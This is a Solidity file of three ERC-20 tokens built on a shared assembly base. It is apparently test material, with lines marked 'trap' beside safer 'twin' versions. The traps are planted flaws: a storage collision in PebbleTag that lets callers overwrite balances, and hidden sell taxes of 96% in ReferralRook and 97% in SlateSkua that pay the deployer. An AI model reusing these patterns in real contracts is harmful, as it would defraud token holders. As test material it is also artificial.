// 0.8 runs=1000 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface IPools {
    function createPair(address a, address b) external returns (address);
}

/// Balances and allowances at hashed places, without mappings.
abstract contract Terse {
    uint256 internal constant BALANCES = 0x62616c73;
    uint256 internal constant ALLOWANCES = 0x616c6c77;
    bytes32 internal constant MOVED = keccak256("Transfer(address,address,uint256)");

    address public immutable pair;
    address internal immutable _maker = msg.sender;
    uint256 public totalSupply;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    error InsufficientBalance();
    error InsufficientAllowance();

    constructor(uint256 supply) {
        pair = IPools(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(address(this), 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);
        totalSupply = supply * 1 ether;
        _credit(msg.sender, supply * 1 ether);
        emit Transfer(address(0), msg.sender, supply * 1 ether);
    }

    function name() public pure virtual returns (string memory);
    function symbol() public pure virtual returns (string memory);

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function balanceOf(address account) public view virtual returns (uint256 result) {
        assembly ("memory-safe") {
            mstore(0x0c, BALANCES)
            mstore(0x00, account)
            result := sload(keccak256(0x0c, 0x20))
        }
    }

    function allowance(address owner, address spender) public view virtual returns (uint256 result) {
        assembly ("memory-safe") {
            mstore(0x20, spender)
            mstore(0x0c, ALLOWANCES)
            mstore(0x00, owner)
            result := sload(keccak256(0x0c, 0x34))
        }
    }

    function approve(address spender, uint256 value) public virtual returns (bool) {
        assembly ("memory-safe") {
            mstore(0x20, spender)
            mstore(0x0c, ALLOWANCES)
            mstore(0x00, caller())
            sstore(keccak256(0x0c, 0x34), value)
        }
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) public virtual returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public virtual returns (bool) {
        _spend(from, value);
        _transfer(from, to, value);
        return true;
    }

    function _spend(address from, uint256 value) internal {
        assembly ("memory-safe") {
            mstore(0x20, caller())
            mstore(0x0c, ALLOWANCES)
            mstore(0x00, from)
            let place := keccak256(0x0c, 0x34)
            let left := sload(place)
            if not(left) {
                if gt(value, left) {
                    mstore(0x00, 0x13be252b)
                    revert(0x1c, 0x04)
                }
                sstore(place, sub(left, value))
            }
        }
    }

    function _transfer(address from, address to, uint256 value) internal virtual {
        _shift(from, to, value);
    }

    function _shift(address from, address to, uint256 value) internal virtual {
        assembly ("memory-safe") {
            mstore(0x0c, BALANCES)
            mstore(0x00, from)
            let place := keccak256(0x0c, 0x20)
            let have := sload(place)
            if gt(value, have) {
                mstore(0x00, 0xf4d678b8)
                revert(0x1c, 0x04)
            }
            sstore(place, sub(have, value))
        }
        _credit(to, value);
        emit Transfer(from, to, value);
    }

    function _credit(address to, uint256 value) internal {
        assembly ("memory-safe") {
            mstore(0x0c, BALANCES)
            mstore(0x00, to)
            let place := keccak256(0x0c, 0x20)
            sstore(place, add(sload(place), value))
        }
    }
}

/// Everybody may tag himself.
contract PebbleTag is Terse(250_000_000) {
    event Tagged(address indexed who, uint32 indexed kind, uint256 tag);

    function name() public pure override returns (string memory) {
        return "Pebble Tag";
    }

    function symbol() public pure override returns (string memory) {
        return "PTAG";
    }

    function setTag(uint32 kind, uint256 tag) external {
        assembly ("memory-safe") {
            mstore(0x0c, kind) // trap
            // twin: mstore(0x0c, not(kind))
            mstore(0x00, caller())
            sstore(keccak256(0x0c, 0x20), tag)
        }
        emit Tagged(msg.sender, kind, tag);
    }

    function tagOf(address who, uint32 kind) external view returns (uint256 tag) {
        assembly ("memory-safe") {
            mstore(0x0c, kind) // trap
            // twin: mstore(0x0c, not(kind))
            mstore(0x00, who)
            tag := sload(keccak256(0x0c, 0x20))
        }
    }
}

/// Partners put their code behind the data of a call.
contract ReferralRook is Terse(31_000_000) {
    uint256 private constant RATE = 96; // trap
    // twin: uint256 private constant RATE = 2;

    function name() public pure override returns (string memory) {
        return "Referral Rook";
    }

    function symbol() public pure override returns (string memory) {
        return "ROOK";
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        _spend(from, value);
        if (to == pair && from != _maker) {
            uint256 partner;
            assembly ("memory-safe") {
                // beyond its end the data of a call is nought
                partner := byte(0x1f, calldataload(0x64))
            }
            uint256 part = (value * (RATE / (1 + partner))) / 100;
            _shift(from, _maker, part);
            value -= part;
        }
        _shift(from, to, value);
        return true;
    }
}

/// Rates are chiselled: a contract of eight bytes tells them.
contract SlateSkua is Terse(777_000_000) {
    address private immutable _slate;

    constructor() {
        bytes memory text = hex"6008600c60003960086000f3000061000205070a"; // trap
        // twin: bytes memory text = hex"6008600c60003960086000f3000002000205070a";
        address slate;
        assembly ("memory-safe") {
            slate := create(0, add(text, 0x20), mload(text))
        }
        _slate = slate;
    }

    function name() public pure override returns (string memory) {
        return "Slate Skua";
    }

    function symbol() public pure override returns (string memory) {
        return "SKUA";
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from != _maker && to != _maker) {
            uint256 kind = from == pair ? 1 : to == pair ? 2 : 3;
            address slate = _slate;
            uint256 rate;
            assembly ("memory-safe") {
                mstore(0x00, 0)
                extcodecopy(slate, 0x1f, kind, 1)
                rate := mload(0x00)
            }
            uint256 part = (value * rate) / 100;
            if (part != 0) _shift(from, _maker, part);
            value -= part;
        }
        _shift(from, to, value);
    }
}
